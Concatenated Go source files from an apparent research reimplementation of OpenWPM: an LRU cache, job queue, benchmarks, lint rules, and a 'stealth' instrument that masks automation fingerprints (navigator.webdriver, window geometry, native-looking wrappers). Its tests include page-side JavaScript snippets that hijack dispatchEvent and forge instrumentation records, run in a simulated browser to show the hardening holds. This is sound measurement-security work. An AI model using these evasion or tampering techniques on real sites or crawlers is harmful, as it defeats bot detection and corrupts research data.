	m.Seq = c.seq
	return *m, true
}

// Peek returns an entry's meta without bumping recency (status reads must
// not keep an entry warm).
func (c *Cache) Peek(addr string) (ArtifactMeta, bool) {
	c.mu.Lock()
	defer c.mu.Unlock()
	m, ok := c.entries[addr]
	if !ok {
		return ArtifactMeta{}, false
	}
	return *m, true
}

// Put stores an artifact under its content address and evicts
// least-recently-used entries until the cache fits its byte budget. The new
// entry itself is never evicted by its own Put — an artifact larger than the
// whole budget is stored (and will be the first evicted by the next Put).
func (c *Cache) Put(addr string, artifact []byte, meta ArtifactMeta) error {
	meta.Bytes = int64(len(artifact))
	c.mu.Lock()
	defer c.mu.Unlock()
	if old, ok := c.entries[addr]; ok {
		// same address means same content; refresh recency only
		c.seq++
		old.Seq = c.seq
		return nil
	}
	if err := os.WriteFile(c.artPath(addr), artifact, 0o644); err != nil {
		return fmt.Errorf("daemon: cache put: %w", err)
	}
	c.seq++
	meta.Seq = c.seq
	enc, err := json.Marshal(meta)
	if err != nil {
		// roll back the half-written pair; an orphaned artifact without its
		// meta file is ignored by recovery, so a failed remove only leaks disk
		_ = os.Remove(c.artPath(addr))
		return fmt.Errorf("daemon: cache put: %w", err)
	}
	if err := os.WriteFile(c.metaPath(addr), append(enc, '\n'), 0o644); err != nil {
		// roll back, best-effort as above
		_ = os.Remove(c.artPath(addr))
		return fmt.Errorf("daemon: cache put: %w", err)
	}
	c.entries[addr] = &meta
	c.bytes += meta.Bytes
	c.evictLocked(addr)
	c.gauges()
	return nil
}

// evictLocked removes least-recently-used entries (never keep, the entry
// being inserted) until bytes fit the budget. Called with mu held.
func (c *Cache) evictLocked(keep string) {
	if c.budget <= 0 {
		return
	}
	for c.bytes > c.budget {
		victim := ""
		var oldest uint64
		for addr, m := range c.entries {
			if addr == keep {
				continue
			}
			if victim == "" || m.Seq < oldest {
				victim, oldest = addr, m.Seq
			}
		}
		if victim == "" {
			return // only the just-inserted entry remains
		}
		c.bytes -= c.entries[victim].Bytes
		delete(c.entries, victim)
		c.removeFiles(victim)
		c.tel.Counter("daemon_cache_evictions_total").Inc()
	}
}

// Len returns the number of cached entries.
func (c *Cache) Len() int {
	c.mu.Lock()
	defer c.mu.Unlock()
	return len(c.entries)
}

// Bytes returns the cache's current on-disk artifact volume.
func (c *Cache) Bytes() int64 {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.bytes
}

// Addrs returns the cached content addresses, most recently used first —
// diagnostic surface for tests and the status endpoint.
func (c *Cache) Addrs() []string {
	c.mu.Lock()
	defer c.mu.Unlock()
	addrs := make([]string, 0, len(c.entries))
	for a := range c.entries {
		addrs = append(addrs, a)
	}
	sort.Slice(addrs, func(i, j int) bool {
		return c.entries[addrs[i]].Seq > c.entries[addrs[j]].Seq
	})
	return addrs
}
