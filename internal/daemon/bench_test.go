package daemon

import (
	"fmt"
	"testing"

	"gullible/internal/telemetry"
)

// benchSpec is the benchmark job: small enough to run many times, big enough
// that the cold path does real crawl work.
var benchSpec = JobSpec{Kind: KindCrawl, NumSites: 10, MaxSubpages: 1}

func benchDaemon(b *testing.B, dir string) *Daemon {
	b.Helper()
	d, err := Open(Config{Dir: dir, Executors: 2, CrawlWorkers: 2})
	if err != nil {
		b.Fatal(err)
	}
	return d
}

// BenchmarkDaemonColdJob measures the full miss path: admission, crawl,
// bundle seal, cache insert. Every iteration uses a distinct seed so nothing
// is served warm.
func BenchmarkDaemonColdJob(b *testing.B) {
	d := benchDaemon(b, b.TempDir())
	defer d.Drain()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		spec := benchSpec
		spec.Seed = int64(1000 + i)
		st, err := d.Submit(spec, "bench")
		if err != nil {
			b.Fatal(err)
		}
		j, _ := d.Job(st.ID)
		<-j.Done()
		if s := j.Status(); s.State != JobDone {
			b.Fatalf("job %+v", s)
		}
	}
}

// BenchmarkDaemonWarmJob measures the hit path: one cold execution up front,
// then every iteration is answered from the content-addressed cache.
func BenchmarkDaemonWarmJob(b *testing.B) {
	d := benchDaemon(b, b.TempDir())
	defer d.Drain()
	st, err := d.Submit(benchSpec, "bench")
	if err != nil {
		b.Fatal(err)
	}
	j, _ := d.Job(st.ID)
	<-j.Done()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		hit, err := d.Submit(benchSpec, "bench")
		if err != nil {
			b.Fatal(err)
		}
		if !hit.Cached {
			b.Fatal("warm submit missed the cache")
		}
		if _, _, ok := d.Artifact(hit.ID); !ok {
			b.Fatal("artifact read missed")
		}
	}
}

// BenchmarkDaemonSaturation measures admission under overload: a stalled
// queue (no executors) is filled to depth and then bombarded; the metric is
// rejections per second, i.e. how fast the daemon says no. The benchmark
// reports the hit ratio of admitted to attempted submissions.
func BenchmarkDaemonSaturation(b *testing.B) {
	tel := telemetry.New()
	d := stalledDaemon(b, Config{Dir: b.TempDir(), QueueDepth: 8, TenantBudget: -1, Telemetry: tel})
	for i := 0; ; i++ {
		spec := benchSpec
		spec.Seed = int64(5000 + i)
		if _, err := d.Submit(spec, fmt.Sprintf("t%d", i)); err != nil {
			break // queue full: saturation reached
		}
	}
	b.ResetTimer()
	rejected := 0
	for i := 0; i < b.N; i++ {
		spec := benchSpec
		spec.Seed = int64(100000 + i)
		if _, err := d.Submit(spec, "bench"); err == ErrQueueFull {
			rejected++
		}
	}
	b.StopTimer()
	if b.N > 0 {
		b.ReportMetric(float64(rejected)/float64(b.N), "rejects/op")
	}
}
