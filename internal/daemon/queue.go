package daemon

import (
	"errors"
	"fmt"
	"sync"
)

// Admission errors. The HTTP layer maps both onto 429 + Retry-After; they
// are distinct so callers (and tests) can tell global overload from a tenant
// exhausting its own budget.
var (
	// ErrQueueFull means the bounded queue is at capacity: the box is
	// saturated and the client should back off.
	ErrQueueFull = errors.New("daemon: job queue is full")
	// ErrTenantBudget means this tenant's in-flight cost budget is spent;
	// other tenants are still being admitted.
	ErrTenantBudget = errors.New("daemon: tenant budget exhausted")
)

// Queue is the bounded admission queue in front of the executors. Admission
// buys capacity twice: a slot in the queue (global, bounded by depth) and
// cost units against the submitting tenant's budget (held until the job
// reaches a terminal state, so a tenant's running jobs count against it too).
// A closed queue wakes every waiting executor and admits nothing more — that
// is the drain path; jobs still queued at close stay persisted on disk for
// the next process.
type Queue struct {
	mu      sync.Mutex
	cond    *sync.Cond
	depth   int
	budget  int64
	jobs    []*Job
	tenants map[string]int64
	closed  bool
}

// NewQueue builds a queue admitting at most depth queued jobs and at most
// budget cost units in flight per tenant (0 = unlimited for either).
func NewQueue(depth int, budget int64) *Queue {
	q := &Queue{depth: depth, budget: budget, tenants: map[string]int64{}}
	q.cond = sync.NewCond(&q.mu)
	return q
}

// Admit enqueues a job, charging its cost to the tenant. force bypasses the
// depth and budget checks (the restart-recovery path re-admits jobs that
// were already admitted by a previous process) but still records the charge.
func (q *Queue) Admit(j *Job, force bool) error {
	q.mu.Lock()
	defer q.mu.Unlock()
	if q.closed {
		return fmt.Errorf("daemon: queue closed (draining)")
	}
	if !force {
		if q.depth > 0 && len(q.jobs) >= q.depth {
			return ErrQueueFull
		}
		if q.budget > 0 && q.tenants[j.Tenant]+j.Cost > q.budget {
			return ErrTenantBudget
		}
	}
	q.tenants[j.Tenant] += j.Cost
	q.jobs = append(q.jobs, j)
	q.cond.Signal()
	return nil
}

// Next blocks until a job is available or the queue is closed. Closed means
// drain: Next returns (nil, false) immediately even when jobs remain queued —
// stopping work is the point, and the leftover jobs are already persisted.
func (q *Queue) Next() (*Job, bool) {
	q.mu.Lock()
	defer q.mu.Unlock()
	for {
		if q.closed {
			return nil, false
		}
		if len(q.jobs) > 0 {
			j := q.jobs[0]
			q.jobs = q.jobs[1:]
			return j, true
		}
		q.cond.Wait()
	}
}

// Release returns a job's cost to its tenant's budget; call it exactly once
// when the job reaches a terminal state.
func (q *Queue) Release(j *Job) {
	q.mu.Lock()
	defer q.mu.Unlock()
	q.tenants[j.Tenant] -= j.Cost
	if q.tenants[j.Tenant] <= 0 {
		delete(q.tenants, j.Tenant)
	}
}

// Close drains the queue: no further admissions, and every blocked Next
// returns immediately.
func (q *Queue) Close() {
	q.mu.Lock()
	q.closed = true
	q.mu.Unlock()
	q.cond.Broadcast()
}

// Depth returns the number of queued (not yet running) jobs.
func (q *Queue) Depth() int {
	q.mu.Lock()
	defer q.mu.Unlock()
	return len(q.jobs)
}

// TenantLoad returns a tenant's current in-flight cost.
func (q *Queue) TenantLoad(tenant string) int64 {
	q.mu.Lock()
	defer q.mu.Unlock()
	return q.tenants[tenant]
}
