package stealth

import (
	"strings"
	"testing"

	"gullible/internal/httpsim"
	"gullible/internal/jsdom"
	"gullible/internal/openwpm"
)

type web struct {
	pages map[string]*httpsim.Response
	log   httpsim.Log
}

func (w *web) RoundTrip(req *httpsim.Request) (*httpsim.Response, error) {
	resp, ok := w.pages[req.URL]
	w.log.Add(req, resp)
	if !ok {
		return &httpsim.Response{Status: 404, Headers: map[string]string{"Content-Type": "text/plain"}}, nil
	}
	return resp, nil
}

func htmlPage(body string, headers map[string]string) *httpsim.Response {
	h := map[string]string{"Content-Type": "text/html"}
	for k, v := range headers {
		h[k] = v
	}
	return &httpsim.Response{Status: 200, Headers: h, Body: body}
}

// stealthTM builds a TaskManager running WPM_hide.
func stealthTM(w *web) *openwpm.TaskManager {
	return openwpm.NewTaskManager(openwpm.CrawlConfig{
		OS: jsdom.Ubuntu, Mode: jsdom.Regular,
		Transport: w, DwellSeconds: 1,
		HTTPInstrument: true, CookieInstrument: true,
		Stealth: New(),
	})
}

// vanillaTM builds a TaskManager running vanilla OpenWPM.
func vanillaTM(w *web) *openwpm.TaskManager {
	return openwpm.NewTaskManager(openwpm.CrawlConfig{
		OS: jsdom.Ubuntu, Mode: jsdom.Regular,
		Transport: w, DwellSeconds: 1,
		JSInstrument: true, HTTPInstrument: true, CookieInstrument: true,
	})
}

func onePage(body string) *web {
	return &web{pages: map[string]*httpsim.Response{
		"https://a.com/": htmlPage(body, nil),
	}}
}

func visitAndEval(t *testing.T, tm *openwpm.TaskManager, url, expr string) string {
	t.Helper()
	bm := &openwpm.BrowserManager{}
	b := tm.NewBrowser()
	if _, err := b.Visit(url); err != nil {
		t.Fatal(err)
	}
	_ = bm
	v, err := b.Top.It.RunScript(expr, "check.js")
	if err != nil {
		t.Fatalf("eval %q: %v", expr, err)
	}
	return v.ToString()
}

func TestWebdriverHidden(t *testing.T) {
	tm := stealthTM(onePage("<html></html>"))
	if got := visitAndEval(t, tm, "https://a.com/", "navigator.webdriver"); got != "false" {
		t.Errorf("navigator.webdriver = %s, want false", got)
	}
	// the replacement getter still brand-checks like the original
	got := visitAndEval(t, tm, "https://a.com/", `
		var r = "no-throw";
		try {
			Object.getOwnPropertyDescriptor(Object.getPrototypeOf(navigator), "webdriver").get.call({});
		} catch (e) { r = e.name }
		r`)
	if got != "TypeError" {
		t.Errorf("foreign-this webdriver getter: %s, want TypeError", got)
	}
}

func TestToStringPreserved(t *testing.T) {
	tm := stealthTM(onePage("<html></html>"))
	// wrapped method
	got := visitAndEval(t, tm, "https://a.com/",
		`document.createElement("canvas").getContext.toString()`)
	if !strings.Contains(got, "[native code]") || !strings.Contains(got, "function getContext()") {
		t.Errorf("method toString leaks: %q", got)
	}
	// wrapped getter
	got = visitAndEval(t, tm, "https://a.com/",
		`Object.getOwnPropertyDescriptor(Object.getPrototypeOf(navigator), "userAgent").get.toString()`)
	if !strings.Contains(got, "[native code]") {
		t.Errorf("getter toString leaks: %q", got)
	}
	if strings.Contains(got, "getOriginatingScriptContext") || strings.Contains(got, "logCall") {
		t.Errorf("getter toString contains wrapper source: %q", got)
	}
}

func TestNoDOMResidue(t *testing.T) {
	tm := stealthTM(onePage("<html></html>"))
	for _, global := range []string{"getInstrumentJS", "jsInstruments", "instrumentFingerprintingApis", "__wpmCfg"} {
		if got := visitAndEval(t, tm, "https://a.com/", "typeof window."+global); got != "undefined" {
			t.Errorf("window.%s = %s, want undefined", global, got)
		}
	}
}

func TestNoPrototypePollution(t *testing.T) {
	tm := stealthTM(onePage("<html></html>"))
	got := visitAndEval(t, tm, "https://a.com/", `
		Object.getPrototypeOf(document).hasOwnProperty("cookie") + "," +
		Document.prototype.hasOwnProperty("cookie")`)
	if got != "false,true" {
		t.Errorf("pollution marker = %s, want false,true (cookie stays on Document.prototype)", got)
	}
}

func TestCleanStackTraces(t *testing.T) {
	tm := stealthTM(onePage("<html></html>"))
	got := visitAndEval(t, tm, "https://a.com/", `
		var leak = "";
		try { new AudioContext().decodeAudioData(); } catch (e) { leak = e.stack }
		leak`)
	if got == "" {
		t.Fatal("wrapped decodeAudioData no longer throws")
	}
	for _, marker := range []string{"openwpm", "instrument", "stealth", "wrapper"} {
		if strings.Contains(strings.ToLower(got), marker) {
			t.Errorf("stack trace leaks %q:\n%s", marker, got)
		}
	}
}

func TestBrandCheckErrorsPropagate(t *testing.T) {
	tm := stealthTM(onePage("<html></html>"))
	// Goßen-style check: prototype-level access must still throw
	got := visitAndEval(t, tm, "https://a.com/", `
		var r = "no-throw";
		try {
			Object.getOwnPropertyDescriptor(Object.getPrototypeOf(navigator), "userAgent").get.call({});
		} catch (e) { r = e.name }
		r`)
	if got != "TypeError" {
		t.Errorf("wrapped getter foreign-this: %s, want TypeError", got)
	}
}

func TestRecordingStillWorks(t *testing.T) {
	w := onePage(`<script src="https://a.com/p.js"></script>`)
	w.pages["https://a.com/p.js"] = &httpsim.Response{
		Status: 200, Headers: map[string]string{"Content-Type": "text/javascript"},
		Body: "var ua = navigator.userAgent; screen.availLeft;",
	}
	tm := stealthTM(w)
	if _, err := tm.VisitSite("https://a.com/"); err != nil {
		t.Fatal(err)
	}
	calls := tm.Storage.JSCallsBySymbol()
	if calls["Navigator.userAgent"] == 0 || calls["Screen.availLeft"] == 0 {
		t.Errorf("stealth did not record calls: %v", calls)
	}
	var attributed bool
	for _, c := range tm.Storage.JSCalls {
		if c.Symbol == "Navigator.userAgent" && strings.Contains(c.ScriptURL, "p.js") {
			attributed = true
		}
	}
	if !attributed {
		t.Error("script attribution missing")
	}
}

func TestDispatcherAttackIneffective(t *testing.T) {
	// The Listing 2 attack: with stealth, messages never travel through
	// document.dispatchEvent, so interception learns nothing and blocks
	// nothing.
	attack := `
		var dispatch_fn = document.dispatchEvent.bind(document);
		var grabbedID = "";
		document.dispatchEvent = function (event) {
			if (grabbedID === "") { grabbedID = event.type; }
			return true;
		};
		navigator.userAgent;     // would leak the id under vanilla
		navigator.oscpu;         // must still be recorded
		window.__grabbed = grabbedID;
	`
	tm := stealthTM(onePage("<script>" + attack + "</script>"))
	bm := tm.NewBrowser()
	if _, err := bm.Visit("https://a.com/"); err != nil {
		t.Fatal(err)
	}
	v, _ := bm.Top.It.RunScript("window.__grabbed", "c.js")
	if v.ToString() != "" {
		t.Errorf("attacker learned an event id: %q", v.ToString())
	}
	// recording unaffected — attach storage-backed count via TaskManager run
	tm2 := stealthTM(onePage("<script>" + attack + "</script>"))
	if _, err := tm2.VisitSite("https://a.com/"); err != nil {
		t.Fatal(err)
	}
	calls := tm2.Storage.JSCallsBySymbol()
	if calls["Navigator.oscpu"] == 0 {
		t.Errorf("recording was blocked: %v", calls)
	}
}

func TestFakeInjectionIneffective(t *testing.T) {
	attack := `
		document.dispatchEvent(new CustomEvent("openwpm-00000000", { detail: {
			symbol: "Navigator.FAKE", operation: "call", args: "forged"
		}}));
	`
	tm := stealthTM(onePage("<script>" + attack + "</script>"))
	if _, err := tm.VisitSite("https://a.com/"); err != nil {
		t.Fatal(err)
	}
	if tm.Storage.JSCallsBySymbol()["Navigator.FAKE"] != 0 {
		t.Error("forged record accepted by stealth instrument")
	}
}

func TestIframeImmediateAccessRecorded(t *testing.T) {
	w := &web{pages: map[string]*httpsim.Response{
		"https://a.com/": htmlPage(`<div id="unobserved"></div><script>
			setTimeout(function () {
				var element = document.querySelector("#unobserved");
				var iframe = document.createElement("iframe");
				iframe.src = "https://a.com/frame";
				element.appendChild(iframe);
				iframe.contentWindow.navigator.userAgent; // immediate
			}, 500);
		</script>`, nil),
		"https://a.com/frame": htmlPage("<html></html>", nil),
	}}
	tm := stealthTM(w)
	tm.Cfg.DwellSeconds = 3
	if _, err := tm.VisitSite("https://a.com/"); err != nil {
		t.Fatal(err)
	}
	var caught bool
	for _, c := range tm.Storage.JSCalls {
		if c.FrameURL == "https://a.com/frame" && c.Symbol == "Navigator.userAgent" {
			caught = true
		}
	}
	if !caught {
		t.Error("frame protection missed immediate access (Sec. 6.2.2)")
	}
}

func TestCSPDoesNotBlockStealth(t *testing.T) {
	w := &web{pages: map[string]*httpsim.Response{
		"https://csp.com/": htmlPage(
			`<script src="/p.js"></script>`,
			map[string]string{"Content-Security-Policy": "script-src 'self'; report-uri /csp"}),
		"https://csp.com/p.js": {Status: 200, Headers: map[string]string{"Content-Type": "text/javascript"},
			Body: "navigator.userAgent;"},
	}}
	tm := stealthTM(w)
	if _, err := tm.VisitSite("https://csp.com/"); err != nil {
		t.Fatal(err)
	}
	if tm.Storage.JSCallsBySymbol()["Navigator.userAgent"] == 0 {
		t.Error("stealth instrumentation blocked by CSP")
	}
	if n := w.log.CountByType()[httpsim.TypeCSPReport]; n != 0 {
		t.Errorf("stealth caused %d csp_report requests", n)
	}
	if len(tm.Storage.Visits) == 0 || !tm.Storage.Visits[0].InstrumentInstalled {
		t.Error("visit record claims install failure")
	}
}

func TestSettingsGeometry(t *testing.T) {
	tm := stealthTM(onePage("<html></html>"))
	got := visitAndEval(t, tm, "https://a.com/",
		`window.innerWidth + "x" + window.innerHeight + "@" + window.screenX + "," + window.screenY`)
	if got != "1295x722@112,76" {
		t.Errorf("geometry = %s", got)
	}
	// custom settings
	inst := New()
	inst.Settings = Settings{WindowW: 1440, WindowH: 900, WindowX: 10, WindowY: 20}
	tm2 := openwpm.NewTaskManager(openwpm.CrawlConfig{
		OS: jsdom.Ubuntu, Mode: jsdom.Regular,
		Transport: onePage("<html></html>"), DwellSeconds: 1, Stealth: inst,
	})
	got = visitAndEval(t, tm2, "https://a.com/", `window.innerWidth + "," + window.screenX`)
	if got != "1440,10" {
		t.Errorf("custom geometry = %s", got)
	}
}

func TestVanillaVsStealthSideBySide(t *testing.T) {
	// the canonical Listing 1 check distinguishes the two variants
	probe := `document.createElement("canvas").getContext.toString()`
	v := visitAndEval(t, vanillaTM(onePage("<html></html>")), "https://a.com/", probe)
	s := visitAndEval(t, stealthTM(onePage("<html></html>")), "https://a.com/", probe)
	if !strings.Contains(v, "logCall") {
		t.Error("vanilla wrapper should leak")
	}
	if strings.Contains(s, "logCall") || !strings.Contains(s, "[native code]") {
		t.Error("stealth wrapper leaked")
	}
}
