// Package stealth implements WPM_hide, the hardened OpenWPM variant of
// Sec. 6 of the paper. Instead of injecting page-context JavaScript, it
// wraps APIs with exportFunction-style native functions installed from the
// content context:
//
//   - wrappers report the original `[native code]` toString (Sec. 6.1.1);
//   - nothing is added to the DOM — no window globals, no residue (6.1.2);
//   - stack traces show no instrumentation frames, and brand-check errors
//     from the original getters propagate unchanged (6.1.3);
//   - every hook lands on the prototype that owns the property — no
//     prototype pollution (6.1.4);
//   - navigator.webdriver reads false and the window geometry comes from a
//     settings file (6.1.5);
//   - records travel over a private host channel (browser.runtime), immune
//     to document.dispatchEvent interception and forgery (6.2.1);
//   - frames are instrumented synchronously at creation, closing the
//     unobserved-channel window (6.2.2).
package stealth

import (
	"gullible/internal/browser"
	"gullible/internal/jsdom"
	"gullible/internal/minjs"
	"gullible/internal/openwpm"
)

// Settings is the WPM_hide settings file making OpenWPM's fixed window
// geometry configurable (Sec. 6.1.5).
type Settings struct {
	WindowW, WindowH int
	WindowX, WindowY int
}

// DefaultSettings mimics an ordinary human setup.
func DefaultSettings() Settings {
	return Settings{WindowW: 1295, WindowH: 722, WindowX: 112, WindowY: 76}
}

// Instrument is the hardened JS instrument; it implements
// openwpm.Instrumentor and can be plugged into a TaskManager via
// CrawlConfig.Stealth.
type Instrument struct {
	Settings Settings
	// MaskAutomation hides navigator.webdriver and the automation window
	// geometry. Disable to measure recording hardening in isolation.
	MaskAutomation bool
}

// New returns a hardened instrument with default settings.
func New() *Instrument {
	return &Instrument{Settings: DefaultSettings(), MaskAutomation: true}
}

// Name implements openwpm.Instrumentor.
func (si *Instrument) Name() string { return "stealth_js_instrument" }

// TopInstallError implements openwpm.Instrumentor. Content-context
// installation cannot be blocked by CSP, so it never fails.
func (si *Instrument) TopInstallError() error { return nil }

// OnWindow instruments a fresh realm synchronously — top documents and
// every subframe alike (frame protection).
func (si *Instrument) OnWindow(b *browser.Browser, st *openwpm.Storage, d *jsdom.DOM, top bool) {
	if si.MaskAutomation {
		si.maskAutomation(d)
	}
	si.hookAPIs(b, st, d)
}

// maskAutomation hides the WebDriver flag and applies the settings-file
// window geometry.
func (si *Instrument) maskAutomation(d *jsdom.DOM) {
	MaskAutomation(d, si.Settings)
}

// MaskAutomation hides the automation fingerprint of a realm: the
// navigator.webdriver flag reads false (with the WebIDL brand check
// preserved) and the window geometry takes the settings-file values.
// Exported for other instrumentation strategies (package dbginstrument).
func MaskAutomation(d *jsdom.DOM, s Settings) {
	it := d.It
	np := d.Protos["Navigator"]

	// navigator.webdriver → false; the replacement getter preserves the
	// WebIDL brand check by delegating foreign receivers to the original.
	if owner, prop := np.FindProperty("webdriver"); prop != nil && prop.Accessor {
		orig := prop.Get
		getter := it.NewNative("get webdriver", func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
			if !this.IsObject() || this.Obj.Class != "Navigator" {
				_, err := it.CallFunction(orig, this, nil) // throws like the original
				return minjs.Undefined(), err
			}
			return minjs.Boolean(false), nil
		})
		owner.DefineAccessor("webdriver", getter, nil, true)
	}

	// settings-file window geometry
	w := d.Window
	w.SetNonEnum("innerWidth", minjs.Int(s.WindowW))
	w.SetNonEnum("innerHeight", minjs.Int(s.WindowH))
	w.SetNonEnum("outerWidth", minjs.Int(s.WindowW))
	w.SetNonEnum("outerHeight", minjs.Int(s.WindowH+74))
	w.SetNonEnum("screenX", minjs.Int(s.WindowX))
	w.SetNonEnum("screenY", minjs.Int(s.WindowY))
	w.SetNonEnum("mozInnerScreenX", minjs.Int(s.WindowX))
	w.SetNonEnum("mozInnerScreenY", minjs.Int(s.WindowY+74))
}

// hookAPIs wraps every instrumentable API with a native, toString-preserving
// wrapper on its OWNING prototype, reporting through a private channel.
func (si *Instrument) hookAPIs(b *browser.Browser, st *openwpm.Storage, d *jsdom.DOM) {
	it := d.It
	frameURL := d.URL
	// The private reporting channel: a Go closure the page cannot reach —
	// the browser.runtime port of Sec. 6.2.1.
	report := func(symbol, operation, value, args string) {
		st.AddJSCall(openwpm.JSCall{
			TopURL:    b.FinalURL(),
			FrameURL:  frameURL,
			Symbol:    symbol,
			Operation: operation,
			Value:     value,
			Args:      args,
			ScriptURL: scriptURLOf(it),
			Time:      b.Now(),
		})
	}

	for _, api := range d.InstrumentableAPIs() {
		api := api
		// find the owning prototype starting from the registered prototype
		owner, prop := api.Proto.FindProperty(api.Name)
		if prop == nil {
			continue
		}
		symbol := api.Path()
		if prop.Accessor {
			origGet, origSet := prop.Get, prop.Set
			var getter, setter *minjs.Object
			if origGet != nil {
				name := origGet.NativeFnName()
				if name == "" {
					name = "get " + api.Name
				}
				getter = it.NewNative(name, func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
					v, err := it.CallFunction(origGet, this, nil)
					if err != nil {
						return minjs.Undefined(), err // original brand-check error propagates
					}
					report(symbol, "get", v.ToString(), "")
					return v, nil
				})
			}
			if origSet != nil {
				name := origSet.NativeFnName()
				if name == "" {
					name = "set " + api.Name
				}
				setter = it.NewNative(name, func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
					var val string
					if len(args) > 0 {
						val = args[0].ToString()
					}
					report(symbol, "set", val, "")
					return it.CallFunction(origSet, this, args)
				})
			}
			owner.DefineProperty(api.Name, &minjs.Property{
				Get: getter, Set: setter, Accessor: true,
				Enumerable: prop.Enumerable, Configurable: prop.Configurable,
			})
			continue
		}
		if !prop.Value.IsFunction() {
			continue
		}
		orig := prop.Value.Obj
		wrapper := it.NewNative(orig.NativeFnName(), func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
			var argStr string
			for i, a := range args {
				if i > 0 {
					argStr += ","
				}
				argStr += a.ToString()
			}
			report(symbol, "call", "", argStr)
			return it.CallFunction(orig, this, args) // errors propagate with clean stacks
		})
		owner.DefineProperty(api.Name, &minjs.Property{
			Value:      minjs.ObjectValue(wrapper),
			Enumerable: prop.Enumerable, Writable: prop.Writable, Configurable: prop.Configurable,
		})
	}
}

// scriptURLOf attributes the running call to its originating script,
// computed host-side (pages cannot spoof it).
func scriptURLOf(it *minjs.Interp) string {
	return it.CurrentScript()
}
