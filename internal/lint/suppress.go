package lint

import (
	"go/ast"
	"go/token"
	"sort"
	"strings"
)

// suppressionRule is the pseudo-rule reported when a lint:ignore comment
// carries no justification. It is always active — a silent suppression of a
// reliability invariant is itself a reliability problem.
const suppressionRule = "suppression"

// ignoreDirective is one parsed `//lint:ignore <rule[,rule]> <justification>`
// comment.
type ignoreDirective struct {
	file          string
	line          int // the comment's own line; it covers this line and the next
	rules         map[string]bool
	justification string
	pos           token.Pos
}

const ignorePrefix = "lint:ignore"

// parseIgnores extracts lint:ignore directives from a file's comments.
func parseIgnores(fset *token.FileSet, f *ast.File) []ignoreDirective {
	var out []ignoreDirective
	for _, cg := range f.Comments {
		for _, c := range cg.List {
			text := strings.TrimPrefix(c.Text, "//")
			text = strings.TrimSpace(text)
			if !strings.HasPrefix(text, ignorePrefix) {
				continue
			}
			rest := strings.TrimSpace(strings.TrimPrefix(text, ignorePrefix))
			fields := strings.Fields(rest)
			d := ignoreDirective{
				file:  fset.Position(c.Pos()).Filename,
				line:  fset.Position(c.Pos()).Line,
				rules: map[string]bool{},
				pos:   c.Pos(),
			}
			if len(fields) > 0 {
				for _, r := range strings.Split(fields[0], ",") {
					if r != "" {
						d.rules[r] = true
					}
				}
				d.justification = strings.TrimSpace(strings.TrimPrefix(rest, fields[0]))
			}
			out = append(out, d)
		}
	}
	return out
}

// applySuppressions filters findings covered by lint:ignore directives and
// reports directives without a justification. A directive covers findings of
// its listed rules on its own line (trailing comment) or the line below.
func applySuppressions(fset *token.FileSet, files []*ast.File, findings []Finding) []Finding {
	var dirs []ignoreDirective
	for _, f := range files {
		dirs = append(dirs, parseIgnores(fset, f)...)
	}
	if len(dirs) == 0 {
		return findings
	}
	covered := func(f Finding) *ignoreDirective {
		for i := range dirs {
			d := &dirs[i]
			if d.file != f.Pos.Filename || !d.rules[f.Rule] {
				continue
			}
			if f.Pos.Line == d.line || f.Pos.Line == d.line+1 {
				return d
			}
		}
		return nil
	}
	var out []Finding
	flagged := map[token.Pos]bool{}
	for _, f := range findings {
		d := covered(f)
		if d == nil {
			out = append(out, f)
			continue
		}
		if d.justification == "" && !flagged[d.pos] {
			flagged[d.pos] = true
			out = append(out, Finding{
				Rule: suppressionRule,
				Pos:  fset.Position(d.pos),
				Msg:  "lint:ignore without a justification; write down why this invariant does not apply here",
			})
		}
	}
	sort.Slice(out, func(i, j int) bool {
		a, b := out[i], out[j]
		if a.Pos.Filename != b.Pos.Filename {
			return a.Pos.Filename < b.Pos.Filename
		}
		if a.Pos.Line != b.Pos.Line {
			return a.Pos.Line < b.Pos.Line
		}
		return a.Rule < b.Rule
	})
	return out
}
