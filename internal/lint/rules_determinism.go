package lint

import (
	"fmt"
	"go/ast"
	"go/token"
	"go/types"
	"strings"
)

// randAllowed are the math/rand package-level names usable from crawl code:
// the seeded-constructor surface and the types needed to hold one.
var randAllowed = map[string]bool{"New": true, "NewSource": true, "Rand": true, "Source": true}

// wallclockBanned are the time package functions that read the wall clock.
var wallclockBanned = map[string]bool{"Now": true, "Since": true, "Until": true}

// checkWallclock flags wall-clock reads: crawl paths run on virtual time.
func checkWallclock(p *Pass) {
	for _, f := range p.Files {
		ast.Inspect(f, func(n ast.Node) bool {
			sel, ok := n.(*ast.SelectorExpr)
			if !ok {
				return true
			}
			if p.SelPkg(f, sel) == "time" && wallclockBanned[sel.Sel.Name] {
				p.Report("wallclock", sel.Pos(),
					"time."+sel.Sel.Name+" reads the wall clock; crawl paths run on virtual time (pass timestamps in, or keep wall-clock I/O in cmd/)")
			}
			return true
		})
	}
}

// checkRandseed flags unseeded math/rand usage.
func checkRandseed(p *Pass) {
	for _, f := range p.Files {
		ast.Inspect(f, func(n ast.Node) bool {
			sel, ok := n.(*ast.SelectorExpr)
			if !ok {
				return true
			}
			if p.SelPkg(f, sel) == "math/rand" && !randAllowed[sel.Sel.Name] {
				p.Report("randseed", sel.Pos(),
					"rand."+sel.Sel.Name+" draws from the unseeded global source; use rand.New(rand.NewSource(seed)) (the Interp.Reseed pattern)")
			}
			return true
		})
	}
}

// canonicalFunc reports whether a function name marks a canonical encoder —
// the scope of the maprange rule.
func canonicalFunc(name string) bool {
	return name == "Digest" || name == "Snapshot" ||
		strings.HasPrefix(name, "canonical") || strings.HasPrefix(name, "Canonical") ||
		strings.HasPrefix(name, "Marshal")
}

// serializerNames are call names that emit bytes in source order; a map
// range whose body calls one is producing nondeterministic output.
var serializerNames = map[string]bool{
	"Fprintf": true, "Fprint": true, "Fprintln": true,
	"Write": true, "WriteString": true, "WriteByte": true, "WriteRune": true,
}

// checkMaprange flags range statements over map-typed expressions inside a
// canonical encoder when the loop body serialises during iteration. Ranging
// a map to collect keys (append, assignment) stays legal — sorting happens
// after.
func checkMaprange(p *Pass) {
	p.EachFuncDecl(func(f *ast.File, fd *ast.FuncDecl) {
